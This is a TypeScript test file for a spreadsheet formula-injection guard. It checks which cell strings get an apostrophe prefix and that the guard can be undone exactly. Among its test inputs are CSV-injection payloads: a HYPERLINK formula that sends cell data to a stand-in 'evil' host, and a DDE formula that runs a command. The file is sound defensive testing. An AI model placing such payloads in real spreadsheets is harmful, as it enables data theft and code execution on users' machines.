import fc from 'fast-check';
import { guardFormula, hasFormulaGuard, needsFormulaGuard, unguardFormula } from './formula-guard';

describe('the formula guard', () => {
  it.each([
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\tleading tab',
    '\rleading CR',
    ' =1+1',
    '"=1+1',
    "'=1+1",
    '＝1+1',
  ])('prefixes %j with an apostrophe', (text) => {
    expect(needsFormulaGuard(text)).toBe(true);
    expect(guardFormula(text)).toBe(`'${text}`);
  });

  it.each(['Acme', '1+1', 'a=b', "'hello", '', 'email@example.com', '(555) 123'])(
    'leaves %j alone',
    (text) => {
      expect(guardFormula(text)).toBe(text);
      expect(hasFormulaGuard(text)).toBe(false);
    },
  );

  it('is undone exactly by unguardFormula, for every string', () => {
    fc.assert(
      fc.property(
        fc.string({
          unit: fc.constantFrom('=', '+', '-', '@', "'", '"', ' ', '\t', '\r', 'a', '1'),
        }),
        (s) => {
          expect(unguardFormula(guardFormula(s))).toBe(s);
        },
      ),
      { numRuns: 2000 },
    );
  });
});
